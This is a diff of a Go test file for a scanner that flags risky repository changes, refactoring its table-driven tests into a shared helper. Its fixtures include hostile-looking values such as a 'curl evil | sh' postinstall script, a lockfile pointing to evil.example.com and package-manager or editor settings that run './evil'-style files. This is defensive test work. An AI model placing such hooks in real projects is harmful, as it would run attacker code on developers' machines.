@@ -123,11 +123,7 @@ func TestContentAndModeChecks(t *testing.T) {
 		return gitx.TreeChange{Status: 'A', Path: p, NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
 	}
 	big := added(m, "data/big.csv", strings.Repeat("x", 6<<20))
-	tests := []struct {
-		name   string
-		change gitx.TreeChange
-		want   string
-	}{
+	tests := []ruleCase{
 		{"benign source", added(m, "src/main.go", "package main\n"), ""},
 		{"benign test", modified(m, "src/main_test.go", "a", "b"), ""},
 		{"npm postinstall", modified(m, "package.json", `{"scripts":{"test":"jest"}}`, `{"scripts":{"test":"jest","postinstall":"node x.js"}}`), "high:install-script"},
@@ -154,17 +150,7 @@ func TestContentAndModeChecks(t *testing.T) {
 		{"submodule pointer", gitx.TreeChange{Status: 'M', Path: "vendor/lib", OldMode: gitx.ModeGitlink, NewMode: gitx.ModeGitlink, OldHash: strings.Repeat("1", 40), NewHash: strings.Repeat("2", 40)}, "medium:submodule"},
 		{"CI and exec", func() gitx.TreeChange { c := added(m, ".circleci/run.sh", "x"); c.NewMode = gitx.ModeExec; return c }(), "high:ci medium:executable"},
 	}
-	for _, tc := range tests {
-		t.Run(tc.name, func(t *testing.T) {
-			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
-			if err != nil {
-				t.Fatal(err)
-			}
-			if got := rules(t, fs); got != tc.want {
-				t.Fatalf("got %q, want %q (%+v)", got, tc.want, fs)
-			}
-		})
-	}
+	checkRuleCases(t, m, tests)
 }
 
 func TestProtect(t *testing.T) {
@@ -215,11 +201,7 @@ func TestParserDifferences(t *testing.T) {
 	m := memBlobs{}
 	pkg := `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"}}`
 	bigLock := `{"packages":{` + strings.Repeat(`"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.tgz"},`, 3<<20/70)
-	tests := []struct {
-		name   string
-		change gitx.TreeChange
-		want   string
-	}{
+	tests := []ruleCase{
 		{"npm case-folded Scripts shadow", modified(m, "package.json", pkg,
 			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"},"Scripts":{"postinstall":"npm run build"}}`), "high:install-script"},
 		{"npm only Scripts is ignored by npm", modified(m, "package.json", pkg,
@@ -258,17 +240,7 @@ func TestParserDifferences(t *testing.T) {
 		{"lockfile new host after 3 MiB", modified(m, "package-lock.json", bigLock+`"z":{}}}`,
 			bigLock+`"node_modules/z":{"resolved":"https://evil.example.com/z.tgz"}}}`), "high:lockfile-source"},
 	}
-	for _, tc := range tests {
-		t.Run(tc.name, func(t *testing.T) {
-			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
-			if err != nil {
-				t.Fatal(err)
-			}
-			if got := rules(t, fs); got != tc.want {
-				t.Fatalf("got %q, want %q (%+v)", got, tc.want, fs)
-			}
-		})
-	}
+	checkRuleCases(t, m, tests)
 }
 
 // TestLinksAndPathsAsToolsSeeThem: a hostile agent reaches paths that run
@@ -343,11 +315,7 @@ func TestLinksAndPathsAsToolsSeeThem(t *testing.T) {
 func TestFilesThatRunCode(t *testing.T) {
 	m := memBlobs{}
 	cargo := "[package]\nname = \"x\"\nversion = \"0.1.0\"\n[dependencies]\nserde = \"1.0.1\"\n"
-	tests := []struct {
-		name   string
-		change gitx.TreeChange
-		want   string
-	}{
+	tests := []ruleCase{
 		{"cargo config runner", added(m, "crates/x/.cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = 'sh evil'\n"), "high:package-manager-config"},
 		{"npmrc script-shell", added(m, ".npmrc", "script-shell=/tmp/evil\n"), "high:package-manager-config"},
 		{"yarnPath", modified(m, ".yarnrc.yml", "nodeLinker: pnp\n", "nodeLinker: pnp\nyarnPath: .yarn/evil.cjs\n"), "high:package-manager-config"},
@@ -368,17 +336,7 @@ func TestFilesThatRunCode(t *testing.T) {
 		{"vscode git path", modified(m, ".vscode/settings.json", "{}", "{\n  \"git.path\": \"./evil\"\n}"), "high:editor-exec-setting medium:editor-settings"},
 		{"vscode font size", modified(m, ".vscode/settings.json", "{}", "{\n  \"editor.fontSize\": 14\n}"), "medium:editor-settings"},
 	}
-	for _, tc := range tests {
-		t.Run(tc.name, func(t *testing.T) {
-			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
-			if err != nil {
-				t.Fatal(err)
-			}
-			if got := rules(t, fs); got != tc.want {
-				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
-			}
-		})
-	}
+	checkRuleCases(t, m, tests)
 }
 
 // TestWhyNeverCarriesTerminalEscapes: every reason quotes what came from
@@ -573,5 +531,29 @@ func TestLongLinkTargetIsCutInTheReason(t *testing.T) {
 	}
 	if len(fs) != 1 || len(fs[0].Why) > 1000 || !strings.Contains(fs[0].Why, "(4096 bytes)") {
 		t.Fatalf("%d findings, reason of %d bytes: %.300q", len(fs), len(fs[0].Why), fs[0].Why)
+	}
+}
+
+// ruleCase is one change and the rules it must raise ("severity:rule",
+// space-separated, as rules() prints them).
+type ruleCase struct {
+	name   string
+	change gitx.TreeChange
+	want   string
+}
+
+// checkRuleCases inspects each case's change alone, reading blobs from m.
+func checkRuleCases(t *testing.T, m memBlobs, tests []ruleCase) {
+	t.Helper()
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
+			}
+		})
 	}
 }
